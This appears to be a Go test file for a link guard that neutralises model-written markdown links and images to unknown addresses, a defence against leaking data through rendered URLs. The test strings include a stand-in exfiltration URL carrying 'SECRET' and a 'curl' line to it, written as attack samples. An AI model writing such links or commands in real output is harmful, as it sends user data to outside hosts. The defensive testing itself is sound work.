package stream

import (
	"context"
	"encoding/json"
	"iter"
	"strings"
	"testing"

	"ponder"
	"ponder/internal/toolname"
	"ponder/llm"
	"ponder/mode/chat"
)

const (
	unknownURL = "http://evil.example/?d=SECRET"
	knownURL   = "https://known.example/a"
)

// eventLog is a store with the events of one thread.
type eventLog struct {
	ponder.Store
	info   ponder.Info
	events []ponder.Event
}

func (l *eventLog) Thread(context.Context, ponder.ThreadID) (ponder.Info, error) { return l.info, nil }

func (l *eventLog) List(context.Context, ponder.Filter) ([]ponder.Info, error) {
	return []ponder.Info{l.info}, nil
}

func (l *eventLog) append(run ponder.RunID, cause string, body ponder.Body) ponder.Seq {
	seq := ponder.Seq(len(l.events) + 1)
	l.events = append(l.events, ponder.Event{Thread: "thr_1", Seq: seq, Run: run, Cause: cause, Body: body})
	return seq
}

func (l *eventLog) Events(_ context.Context, _ ponder.ThreadID, after ponder.Seq) iter.Seq2[ponder.Event, error] {
	return func(yield func(ponder.Event, error) bool) {
		for _, ev := range l.events[after:] {
			if !yield(ev, nil) {
				return
			}
		}
	}
}

// answer returns the last event in the form for clients.
func (l *eventLog) answer(t *testing.T, remoteContent string) ponder.Event {
	t.Helper()
	last := ponder.Seq(len(l.events))
	for ev, err := range PublicStore(l, NewLinkGuard(l, remoteContent)).Events(t.Context(), "thr_1", last-1) {
		if err != nil {
			t.Fatal(err)
		}
		return ev
	}
	t.Fatal("no event")
	return ponder.Event{}
}

func answered(text string) ponder.CallFinished {
	return ponder.CallFinished{Model: "m", Message: llm.Message{Role: llm.Assistant, Parts: []llm.Part{{Text: text}}}}
}

// An address is known from events of users and sources before the call, but not from a model.
func TestLinkGuardKnows(t *testing.T) {
	call := func(l *eventLog) { l.append("run_1", "turn-1-1#1", ponder.CallStarted{Model: "m"}) }
	for _, tt := range []struct {
		name   string
		before func(l *eventLog)
		known  bool
	}{
		{"nothing", call, false},
		{"user", func(l *eventLog) { l.append("", "", ponder.UserMessage{Content: "see " + knownURL + "."}); call(l) }, true},
		{"later message", func(l *eventLog) { call(l); l.append("", "", ponder.UserMessage{Content: knownURL}) }, false},
		{"earlier answer", func(l *eventLog) {
			call(l)
			l.append("run_1", "turn-1-1#1", answered(knownURL))
			l.append("run_1", "say-1-1", ponder.AssistantMessage{Content: knownURL, Model: "m"})
			l.append("run_1", "turn-1-2#1", ponder.CallStarted{Model: "m"})
		}, false},
		{"tool", func(l *eventLog) {
			l.append("run_1", "use-1", ponder.ToolCall{Name: toolname.WebSearch, Args: json.RawMessage(`{"query":"x"}`)})
			l.append("run_1", "use-1", ponder.ToolResult{Name: toolname.WebSearch, Result: `{"url":"https:\/\/known.example\/a"}`})
			call(l)
		}, true},
		{"echo of a tool", func(l *eventLog) {
			l.append("run_1", "use-1", ponder.ToolCall{Name: toolname.WebSearch, Args: json.RawMessage(`{"query":"` + knownURL + `"}`)})
			l.append("run_1", "use-1", ponder.ToolResult{Name: toolname.WebSearch, Result: `nothing for ` + knownURL})
			call(l)
		}, false},
		{"error of a tool", func(l *eventLog) {
			l.append("run_1", "use-1", ponder.ToolCall{Name: toolname.WebFetch, Args: json.RawMessage(`{"url":"` + knownURL + `"}`)})
			l.append("run_1", "use-1", ponder.ToolResult{Name: toolname.WebFetch, Outcome: ponder.Outcome{Error: "refused: " + knownURL}})
			call(l)
		}, false},
		{"read page", func(l *eventLog) {
			l.append("run_1", "use-1", ponder.ToolCall{Name: toolname.WebFetch, Args: json.RawMessage(`{"url":"` + knownURL + `"}`)})
			l.append("run_1", "use-1", ponder.ToolResult{Name: toolname.WebFetch, Result: `{"url":"` + knownURL + `"}`})
			call(l)
		}, true},
		{"evidence", func(l *eventLog) { l.append("run_1", "found-1", ponder.Evidence{ID: "e1", URL: knownURL}); call(l) }, true},
		{"question", func(l *eventLog) { l.append("run_1", "", ponder.RunStarted{Mode: "session", Input: knownURL}); call(l) }, true},
		{"question of a model", func(l *eventLog) {
			l.append("run_1/think", "", ponder.RunStarted{Mode: "session", Input: knownURL})
			call(l)
		}, false},
		{"file", func(l *eventLog) { l.append("", "", ponder.AttachmentAdded{Name: "a.md", Content: knownURL}); call(l) }, true},
		{"diagram of a model", func(l *eventLog) {
			l.append("run_1", "", ponder.AttachmentAdded{Name: "a.mmd", Content: knownURL})
			call(l)
		}, false},
		{"transcript of a client", func(l *eventLog) {
			l.append("", "", ponder.AttachmentAdded{Name: "what was said before", Content: "assistant: " + knownURL})
			call(l)
		}, false},
		{"answer in a report", func(l *eventLog) {
			l.append("", "", ponder.AttachmentAdded{Name: "report of x", Content: knownURL + "\nThe passages:\n"})
			call(l)
		}, false},
		{"source in a report", func(l *eventLog) {
			l.append("", "", ponder.AttachmentAdded{Name: "report of x", Content: "x\nThe passages:\n[e1] " + knownURL + "\n"})
			call(l)
		}, true},
		{"request of a client", func(l *eventLog) {
			l.append("run_1", "", ponder.RunStarted{Mode: "relay", Options: json.RawMessage(`{"request":{"messages":[{"role":"user","parts":[{"text":"` + knownURL + `"}]}]}}`)})
			call(l)
		}, true},
		{"answer in a request", func(l *eventLog) {
			l.append("run_1", "", ponder.RunStarted{Mode: "relay", Options: json.RawMessage(`{"request":{"messages":[{"role":"assistant","parts":[{"text":"` + knownURL + `"}]}]}}`)})
			call(l)
		}, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			l := &eventLog{}
			tt.before(l)
			const text = "[x](" + knownURL + ") ![y](" + unknownURL + ")"
			l.append("run_1", "turn-1-9#1", answered(text))
			got := l.answer(t, RemoteSources).Body.(ponder.CallFinished).Message.Text()
			if isLink := strings.Contains(got, "[x]("+knownURL+")"); isLink != tt.known || strings.Contains(got, "![") {
				t.Errorf("%q, known %t", got, tt.known)
			}
			if got := l.answer(t, RemoteNone).Body.(ponder.CallFinished).Message.Text(); strings.Contains(got, "](") {
				t.Errorf("none: %q", got)
			}
			if got := l.answer(t, RemoteAll).Body.(ponder.CallFinished).Message.Text(); got != text {
				t.Errorf("all: %q", got)
			}
		})
	}
}

// Deltas, the stored answer and a replay give the same text, in whatever pieces it arrives.
func TestLinkGuardAgrees(t *testing.T) {
	text := "Look: ![x](" + unknownURL + ") and [y](" + knownURL + ").\n\n```sh\ncurl " + unknownURL + "\n```\n\nSee " + unknownURL + " or https"
	for size := 1; size < len(text)+1; size += 7 {
		l := &eventLog{}
		message := l.append("", "", ponder.UserMessage{Content: "What of " + knownURL + "?"})
		l.append("run_1", "", ponder.RunStarted{Mode: chat.Name})
		began := l.append("run_1", "turn-1-1#1", ponder.CallStarted{Model: "m"})
		guard := NewLinkGuard(l, RemoteSources)
		view := chat.NewTurnView("", message)
		for _, ev := range l.events {
			view.Apply(ev)
		}
		send := func(d ponder.Delta) {
			d.Thread, d.Run, d.Key, d.Cause, d.Began, d.Attempt = "thr_1", "run_1", "turn-1-1", "turn-1-1#1", began, 1
			for _, d := range guard.guardDelta(d) {
				view.ApplyDelta(d)
			}
		}
		for at := 0; at < len(text); at += size {
			send(ponder.Delta{Offset: at, Delta: llm.Delta{Text: text[at:min(len(text), at+size)]}})
		}
		send(ponder.Delta{Offset: len(text), Delta: llm.Delta{Done: &llm.Response{}}})
		live := view.Text.Text()
		l.append("", "", ponder.UserMessage{Content: "And " + unknownURL + "?"}) // after the call began
		l.append("run_1", "turn-1-1#1", answered(text))
		l.append("run_1", "say-1-1", ponder.AssistantMessage{Content: text, Model: "m"})
		stored := l.answer(t, RemoteSources).Body.(ponder.AssistantMessage).Content
		if live != stored || strings.Contains(live, "![") || !strings.Contains(live, "curl "+unknownURL) || !strings.Contains(live, "[y]("+knownURL+")") {
			t.Fatalf("pieces of %d:\nlive   %q\nstored %q", size, live, stored)
		}
	}
}

// Reasoning is filtered like text, up to the first text.
func TestLinkGuardReasoning(t *testing.T) {
	l := &eventLog{}
	began := l.append("run_1", "turn-1-1#1", ponder.CallStarted{Model: "m"})
	guard := NewLinkGuard(l, RemoteSources)
	var reasoning, text string
	send := func(d llm.Delta) {
		for _, d := range guard.guardDelta(ponder.Delta{Thread: "thr_1", Run: "run_1", Key: "turn-1-1", Began: began, Attempt: 1, Delta: d}) {
			if d.Offset != len(text) || d.Reasoned != len(reasoning) || d.Text != "" && d.Reasoning != "" {
				t.Errorf("%+v", d)
			}
			text, reasoning = text+d.Text, reasoning+d.Reasoning
		}
	}
	send(llm.Delta{Reasoning: "![x](http://evil."})
	send(llm.Delta{Reasoning: "example/1) http"})
	send(llm.Delta{Text: "Hello!"})
	send(llm.Delta{Done: &llm.Response{}})
	l.append("run_1", "turn-1-1#1", ponder.CallFinished{Message: llm.Message{Parts: []llm.Part{{Reasoning: "![x](http://evil.example/1) http"}, {Text: "Hello!"}}}})
	parts := l.answer(t, RemoteSources).Body.(ponder.CallFinished).Message.Parts
	if reasoning != parts[0].Reasoning || reasoning != "! [x] (`http://evil.example/1`) http" || text != "Hello!" || len(guard.streams) != 0 {
		t.Errorf("%q %q, %+v", reasoning, text, parts)
	}
}

// The title of a thread is inert too, in lists and alone.
func TestLinkGuardTitle(t *testing.T) {
	l := &eventLog{}
	l.append("", "", ponder.UserMessage{Content: knownURL})
	l.info = ponder.Info{Thread: ponder.Thread{ID: "thr_1", Title: "![x](" + unknownURL + ") of " + knownURL}, Head: 1}
	s := PublicStore(l, NewLinkGuard(l, RemoteSources))
	info, err := s.Thread(t.Context(), "thr_1")
	list, listErr := s.List(t.Context(), ponder.Filter{})
	if want := "! [x] (`" + unknownURL + "`) of " + knownURL; err != nil || listErr != nil || info.Title != want || list[0].Title != want {
		t.Errorf("%q %v, %+v %v", info.Title, err, list, listErr)
	}
}

// A client that asks for JSON gets it unchanged.
func TestLinkGuardJSON(t *testing.T) {
	l := &eventLog{}
	l.append("run_1", "", ponder.RunStarted{Mode: "relay", Options: json.RawMessage(`{"request":{"messages":[],"schema":{"name":"x","schema":{}}}}`)})
	l.append("run_1", "ask-1#1", ponder.CallStarted{Model: "m"})
	l.append("run_1", "ask-1#1", answered(`{"url":"`+unknownURL+`"}`))
	if got := l.answer(t, RemoteSources).Body.(ponder.CallFinished).Message.Text(); got != `{"url":"`+unknownURL+`"}` {
		t.Error(got)
	}
}

// Every text that a model writes is filtered.
func TestLinkGuardBodies(t *testing.T) {
	const text = "[x](" + unknownURL + ")"
	state := json.RawMessage(`{"entries":[{"text":"` + text + `","n":1.50}]}`)
	for _, body := range []ponder.Body{
		ponder.AssistantMessage{Content: text, Model: "m"}, ponder.RunFinished{Answer: text}, ponder.Thought{Content: text, Focus: text}, ponder.SubQuestion{Content: text, Why: text},
		ponder.QuestionUpdated{Insights: text}, ponder.Synthesis{Content: text, Insights: []string{text}, Remaining: []string{text}}, ponder.Plan{Content: text, Steps: []string{text}},
		ponder.Claim{Content: text}, ponder.Steer{Do: ponder.Cancel, Content: text}, ponder.InnerMonologue{Content: text}, ponder.TitleGenerated{Content: text}, ponder.Summary{Content: text}, ponder.Finding{Content: text}, ponder.Escalation{Content: text},
		ponder.Subconscious{State: state, Changes: state}, ponder.Resolution{State: state},
	} {
		l := &eventLog{}
		l.append("run_1", "", body)
		js, err := l.answer(t, RemoteSources).MarshalJSON()
		if err != nil || strings.Contains(string(js), "](") || !strings.Contains(string(js), unknownURL) {
			t.Errorf("%T: %s %v", body, js, err)
		}
		if raw, err := l.events[0].MarshalJSON(); err != nil || !strings.Contains(string(raw), "](") {
			t.Errorf("%T: the log changed: %s %v", body, raw, err)
		}
	}
}

// TestPublicState checks that the state of a subconscious is filtered by the addresses of its thread, and
// that nothing else in it changes.
func TestPublicState(t *testing.T) {
	l := &eventLog{}
	l.append("", "", ponder.Observation{Sensor: "feeds", Source: knownURL})
	state := json.RawMessage(`{"entries": [{"text":"[a](` + knownURL + `) [x](` + unknownURL + `)","source":"/home/ann/a.md","n":1.50}]}`)
	want := `{"entries": [{"text":"[a](` + knownURL + `) [x] (` + "`" + unknownURL + "`" + `)","source":"a.md","n":1.50}]}`
	for setting, want := range map[string]string{RemoteSources: want, RemoteAll: strings.Replace(string(state), "/home/ann/", "", 1)} {
		if got := PublicState(t.Context(), PublicStore(l, NewLinkGuard(l, setting)), "thr_1", 1, state); string(got) != want {
			t.Errorf("%s: %s, want %s", setting, got, want)
		}
	}
}
